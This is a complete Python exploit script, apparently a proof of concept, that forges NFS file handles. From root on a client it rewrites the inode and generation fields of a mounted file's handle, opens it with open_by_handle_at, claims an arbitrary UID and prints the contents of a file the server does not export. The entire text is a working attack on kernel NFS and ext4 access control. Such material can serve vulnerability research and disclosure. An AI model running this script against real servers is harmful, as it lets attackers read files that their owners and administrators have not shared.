"""Read a file of an NFS server that it does not export: `forge.py SERVED INODE UID`.

Runs as root of a client, which may say any number for a user and make up any file handle. SERVED is
a file of the server that is mounted here, INODE the number of another one in its file system there,
UID whose rights to claim. Prints the content, or the error.

A handle of the kernel's server ends with inode and generation, 32 bits each (struct knfsd_fh); for
the generation 0 ext4 takes any (ext4_nfs_get_inode). The kernel's client puts the server's handle
into its own, after the file's number, its type and a length (nfs_encode_fh).
"""

import ctypes
import os
import stat
import struct
import sys
from pathlib import Path

MOST = 128
"""Bytes of a handle at most, MAX_HANDLE_SZ."""
HEAD = struct.Struct("=Ii")
"""handle_bytes and handle_type of struct file_handle."""
CLIENT = struct.Struct("=III H")
"""File number (high, low), type, and bytes of the server's handle."""

libc = ctypes.CDLL(None, use_errno=True)


def main(served: str, inode: int, uid: int) -> int:
    """Open the forged handle and read what it leads to."""
    handle = ctypes.create_string_buffer(HEAD.pack(MOST, 0), HEAD.size + MOST)
    place = ctypes.c_int()
    if libc.name_to_handle_at(-100, served.encode(), handle, ctypes.byref(place), 0):
        raise OSError(ctypes.get_errno(), "name_to_handle_at")
    *_, length = CLIENT.unpack_from(handle, HEAD.size)
    CLIENT.pack_into(handle, HEAD.size, 0, inode, stat.S_IFREG, length)
    struct.pack_into("=II", handle, HEAD.size + CLIENT.size + length - 8, inode, 0)
    mount = os.open(Path(served).parent, os.O_RDONLY)
    opened = libc.open_by_handle_at(mount, handle, os.O_PATH)
    if opened < 0:
        sys.stdout.write(f"{os.strerror(ctypes.get_errno())}\n")
        return 1
    os.setresgid(uid, uid, uid)
    os.setresuid(uid, uid, uid)
    sys.stdout.write(Path(f"/proc/self/fd/{opened}").read_text(encoding="utf-8"))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1], int(sys.argv[2]), int(sys.argv[3])))
